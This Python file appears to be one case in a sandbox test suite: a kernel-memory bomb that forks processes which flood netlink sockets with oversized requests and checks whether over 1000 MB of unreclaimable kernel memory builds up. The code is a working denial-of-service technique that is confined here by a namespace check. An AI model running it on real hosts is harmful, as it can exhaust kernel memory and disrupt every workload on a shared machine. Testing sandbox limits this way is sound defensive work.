# class: resource
# tries: memory of the kernel: answers of netlink that quote what was sent, which nobody reads
# network: any
# bomb: yes
# with: --memory 256
# timeout: 20
import os
import socket
import struct
import time

HOST = "@PIDNS@"  # filled in by attack_suite.py
if not HOST.startswith("pid:") or os.readlink("/proc/self/ns/pid") == HOST:
    raise SystemExit("a bomb starts only in a pid namespace of its own")
print("ATTEMPTED: asking what nobody knows", flush=True)
REQUEST = struct.pack("IHHII", 16 + 90_000, 0x7FF, 1 | 4, 1, 0) + bytes(90_000)


def unreclaimable() -> int:
    """MB of slabs and large blocks that the kernel holds."""
    with open("/proc/meminfo") as info:
        return next(int(line.split()[1]) >> 10 for line in info if line.startswith("SUnreclaim"))


before, ends = unreclaimable(), []
for _ in range(4):
    if os.fork() == 0:
        while len(ends) < 1000 and unreclaimable() - before < 1500:
            ends.append(socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
            ends[-1].setblocking(False)
            ends[-1].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
            ends[-1].setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
            try:
                for _ in range(40):
                    ends[-1].send(REQUEST)
            except OSError:
                pass
        time.sleep(4)
        os._exit(0)
for _ in range(40):
    time.sleep(0.1)
    if (held := unreclaimable() - before) > 1000:
        print(f"ESCAPED: {held} MB in the kernel", flush=True)
        break
